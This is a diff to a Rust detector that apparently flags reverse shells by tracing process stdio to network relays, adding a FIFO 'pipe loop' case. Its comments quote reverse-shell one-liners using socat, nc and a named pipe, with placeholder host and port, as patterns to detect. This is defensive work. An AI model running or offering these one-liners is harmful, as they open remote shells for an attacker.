@@ -9,7 +9,11 @@
 //! * **relay**: a network relay tool (socat, nc, ...) with a connected socket is its ancestor
 //!   (`socat exec:'bash -li',pty tcp:H:P` runs bash on a pty that socat feeds from the socket), or
 //! * **pipe**: its stdin is a pipe or FIFO written by a bound process or a connected relay
-//!   (`cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: nc writes the FIFO, cat feeds the shell), or
+//!   (`nc H P < /tmp/f | sh -i > /tmp/f`: nc's stdout pipe is the shell's stdin), or
+//! * **pipe loop**: its stdout/stderr is the stdin pipe of a connected relay that writes what
+//!   the peer sends into a pipe or FIFO, while its own stdin is a pipe
+//!   (`cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO by name, so only this
+//!   shape is visible on fds 0-2), or
 //! * **inherited**: its parent was bound when it forked, in the same container
 //!   (a python `pty.spawn("/bin/sh")` shell whose own stdio is a pty).
 //!
@@ -104,6 +108,7 @@ pub enum BindVia {
     Dup,
     Relay,
     Pipe,
+    PipeLoop,
 }
 
 impl BindVia {
@@ -113,6 +118,7 @@ impl BindVia {
             BindVia::Dup => "socket dup'ed onto stdio after exec",
             BindVia::Relay => "descendant of a network relay",
             BindVia::Pipe => "stdin piped from a network relay",
+            BindVia::PipeLoop => "stdout piped into a network relay that feeds a pipe loop",
         }
     }
 }
@@ -203,6 +209,10 @@ pub struct ProcessTable {
     /// Pipe/FIFO inodes written by a bound process or a connected relay.
     fed: FxHashMap<u64, Arc<Binding>>,
     fed_order: VecDeque<u64>,
+    /// Stdin pipes of connected relays whose stdout is a pipe or FIFO (a pipe loop): whoever
+    /// writes into them, reading its own stdin from a pipe, is driven by the peer.
+    relay_inputs: FxHashMap<u64, Arc<Binding>>,
+    relay_inputs_order: VecDeque<u64>,
     stats: TableStats,
 }
 
@@ -215,6 +225,8 @@ impl ProcessTable {
             next_generation: 0,
             fed: FxHashMap::default(),
             fed_order: VecDeque::new(),
+            relay_inputs: FxHashMap::default(),
+            relay_inputs_order: VecDeque::new(),
             stats: TableStats::default(),
         }
     }
@@ -405,6 +417,17 @@ impl ProcessTable {
         let fed = stdio[0]
             .pipe_inode()
             .and_then(|i| self.fed.get(&i).cloned());
+        // A pipe loop: stdin from a pipe, stdout/stderr into a connected relay's stdin.
+        let looped = stdio[0]
+            .pipe_inode()
+            .and_then(|_| {
+                stdio[1..]
+                    .iter()
+                    .filter_map(|s| s.pipe_inode())
+                    .find_map(|i| self.relay_inputs.get(&i).cloned())
+            })
+            .filter(|b| b.origin_pid != pid);
+        let fed = fed.or(looped);
         let p = self.procs.get_mut(&pid).expect("present");
         p.ppid = exec.ppid;
         p.stdio = stdio;
@@ -532,6 +555,49 @@ impl ProcessTable {
             }),
             applied,
         );
+        self.register_pipe_loop(pid, &relay, applied);
+    }
+
+    /// A relay reading a pipe and writing the peer's data into a pipe or FIFO closes a loop:
+    /// the process writing into the relay's stdin, with a pipe on its own stdin, is driven by
+    /// the peer.
+    fn register_pipe_loop(&mut self, relay_pid: Pid, relay: &Arc<Binding>, applied: &mut Applied) {
+        let Some(r) = self.procs.get(&relay_pid) else {
+            return;
+        };
+        let (Some(input), Some(_)) = (r.stdio[0].pipe_inode(), r.stdio[1].pipe_inode()) else {
+            return;
+        };
+        let binding = Arc::new(Binding {
+            via: BindVia::PipeLoop,
+            ..(**relay).clone()
+        });
+        if self.relay_inputs.insert(input, binding.clone()).is_none() {
+            self.relay_inputs_order.push_back(input);
+            while self.relay_inputs_order.len() > self.cfg.max_fed_pipes {
+                if let Some(old) = self.relay_inputs_order.pop_front() {
+                    self.relay_inputs.remove(&old);
+                    self.stats.fed_pipes_evicted += 1;
+                }
+            }
+        }
+        let writers: Vec<Pid> = self
+            .procs
+            .values()
+            .filter(|w| w.pid != relay_pid && w.exited.is_none() && w.binding().is_none())
+            .filter(|w| w.container_id == binding.container_id)
+            .filter(|w| w.stdio[0].pipe_inode().is_some())
+            .filter(|w| w.stdio[1..].iter().any(|s| s.pipe_inode() == Some(input)))
+            .map(|w| w.pid)
+            .collect();
+        for w in writers {
+            if let Some(wp) = self.procs.get_mut(&w) {
+                wp.inherited = Some(binding.clone());
+                wp.bound_by_pipe = true;
+                applied.newly_bound.push(w);
+            }
+            self.feed_from(w, applied);
+        }
     }
 
     /// A bound process's stdout pipe carries remote input to whoever reads it.
